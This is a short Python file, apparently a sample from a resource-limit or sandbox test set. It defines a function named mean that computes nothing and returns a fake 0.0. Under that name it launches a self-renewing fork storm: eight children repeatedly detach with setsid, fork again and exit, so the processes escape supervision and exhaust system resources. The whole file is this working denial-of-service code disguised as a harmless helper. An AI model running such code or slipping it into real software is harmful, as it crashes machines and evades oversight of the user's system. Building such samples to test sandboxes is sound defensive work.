"""Fork twice and leave at once, for ever: every process is gone before one can look at it.

outcome: not_yet
class: resources
"""

import os


def mean(values, weights=None):
    for _ in range(8):
        if os.fork() == 0:
            while True:
                os.setsid() if os.getpid() != os.getsid(0) else None
                try:
                    if os.fork() != 0:
                        os._exit(0)
                except OSError:
                    continue
    return 0.0
